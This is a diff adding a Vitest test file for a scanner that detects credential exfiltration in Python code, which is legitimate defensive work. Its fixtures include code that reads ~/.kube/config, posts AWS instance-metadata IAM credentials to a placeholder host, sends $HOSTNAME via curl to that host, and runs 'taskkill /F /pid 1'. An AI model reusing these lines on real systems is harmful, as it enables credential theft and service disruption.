@@ -1,0 +1,38 @@
+import { expect, test } from 'vitest';
+import credentialsToNetwork from '../../src/rules/credentials-to-network.js';
+import parameterToNetwork from '../../src/rules/parameter-to-network.js';
+import { commandTraits } from '../../src/python/vocabulary/commands.js';
+import { read } from './reading.js';
+
+const found = async (rule: typeof credentialsToNetwork, text: string) => {
+  const { facts } = await read(text);
+  return facts === null ? [] : rule.check(facts).map(({ severity }) => severity);
+};
+
+test('headers that are made are no answer of a server', async () => {
+  expect(await found(credentialsToNetwork, 'import os, urllib3\nkey = open(os.path.expanduser("~/.kube/config")).read()\nHEADER = urllib3.util.make_headers(basic_auth=key).get("authorization")\n')).toEqual([]);
+});
+
+test('what curl asks of a socket of the same machine stays there', () => {
+  expect([...commandTraits('curl -s --unix-socket /run/docker.sock http://docker/containers/$HOSTNAME/json')]).not.toContain('tells-identity');
+  expect([...commandTraits('curl -s --unix-socket /run/a.sock http://a/; curl https://leaf.example.invalid/$HOSTNAME')]).toContain('tells-identity');
+});
+
+test.each(['Token(key_id, private_key).to_jwt()', 'make_assertion(key_id, private_key)'])('%s is no key', async (made) => {
+  expect(await found(parameterToNetwork, `import requests\nfrom .token import Token, make_assertion\ndef get(url, key_id, private_key):\n    requests.get(url, headers={"Authorization": ${made}})\n`)).toEqual([]);
+});
+
+const ROLE = 'requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/role")';
+
+test('the keys of a role may be asked for by what the same service gave, and go to nobody else', async () => {
+  expect(await found(credentialsToNetwork, `import requests\nrole = ${ROLE}.text\nrequests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/" + role)\n`)).toEqual([]);
+  expect(await found(credentialsToNetwork, `import requests\nrequests.post("https://leaf.example.invalid", json=${ROLE}.json())\n`)).toEqual(['critical']);
+});
+
+const STAND_IN = (name: string): string => `import os\ntry:\n    from functools import ${name}\nexcept ImportError:\n    def ${name}(f):\n        return f\ndef threaded(f):\n    @${name}(f)\n    def inner():\n        f()\n    return inner\n@threaded\ndef stop():\n    os.system("taskkill /F /pid 1")\n`;
+const when = async (text: string) => (await read(text)).facts?.calls('process').map((call) => call.when);
+
+test('a stand-in for what each Python has is never taken, and one for anything else may be', async () => {
+  expect(await when(STAND_IN('wraps'))).toEqual(['latent']);
+  expect(await when(STAND_IN('not_there'))).toEqual(['import']);
+});
